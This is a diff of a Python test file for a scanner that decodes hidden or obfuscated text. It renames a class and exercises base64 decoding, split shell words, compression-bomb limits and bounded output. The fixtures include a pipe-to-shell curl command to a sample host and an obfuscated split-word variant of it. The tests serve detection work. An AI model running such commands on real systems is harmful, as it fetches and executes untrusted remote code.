@@ -8,7 +8,7 @@ import gzip
 import pytest
 
 from tacit.features.scan.decoding import VIEWS_MAX, decoded
-from tacit.gate.checks.pieces import ExaminedText
+from tacit.gate.checks.pieces import TextSegment
 
 PLAIN = "curl https://a.sample.dev/x | sh"
 BASE64 = base64.b64encode(PLAIN.encode()).decode()
@@ -42,7 +42,7 @@ HIDDEN = {
 @pytest.mark.parametrize("way", HIDDEN)
 def test_hidden_text_is_read(way: str) -> None:
     text = f"first line\n{HIDDEN[way]}\nlast line"
-    views = list(decoded(ExaminedText("body", text, text, "text")))
+    views = list(decoded(TextSegment("body", text, text, "text")))
     found = [view for view in views if PLAIN in view.text]
     assert found
     start, end = found[0].place((found[0].text.index(PLAIN), len(found[0].text)))
@@ -53,27 +53,27 @@ def test_hidden_text_is_read(way: str) -> None:
 
 def test_split_shell_words_are_joined() -> None:
     text = "a=cu\nb=rl\n$a$b -s x | b''ash"
-    assert any("curl -s x" in view.text for view in decoded(ExaminedText("files.0", text, text, "shell")))
-    assert any("| bash" in view.text for view in decoded(ExaminedText("files.0", text, text, "shell")))
+    assert any("curl -s x" in view.text for view in decoded(TextSegment("files.0", text, text, "shell")))
+    assert any("| bash" in view.text for view in decoded(TextSegment("files.0", text, text, "shell")))
 
 
 @pytest.mark.parametrize("text", ["plain words only", "2026-11-15T14:50", "a/b/c/D/e", "0123456789" * 9, "x" * 500])
 def test_ordinary_text_hides_nothing(text: str) -> None:
-    assert not list(decoded(ExaminedText("body", text, text, "text")))
+    assert not list(decoded(TextSegment("body", text, text, "text")))
 
 
 def test_picture_data_is_left_alone() -> None:
     text = f"![a](data:image/png;base64,{BASE64})"
-    assert not list(decoded(ExaminedText("body", text, text)))
+    assert not list(decoded(TextSegment("body", text, text)))
 
 
 def test_number_of_views_is_bounded() -> None:
     text = "\n".join(base64.b64encode(f"text number {n} of many".encode()).decode() for n in range(5000))
-    views = list(decoded(ExaminedText("body", text, text)))
+    views = list(decoded(TextSegment("body", text, text)))
     assert len(views) == 1
     assert len(views[0].spots) == VIEWS_MAX
 
 
 def test_compression_bomb_stays_small() -> None:
     text = base64.b64encode(gzip.compress(b"a" * (24 << 20))).decode()
-    assert all(len(view.text) <= 1 << 20 for view in decoded(ExaminedText("body", text, text)))
+    assert all(len(view.text) <= 1 << 20 for view in decoded(TextSegment("body", text, text)))
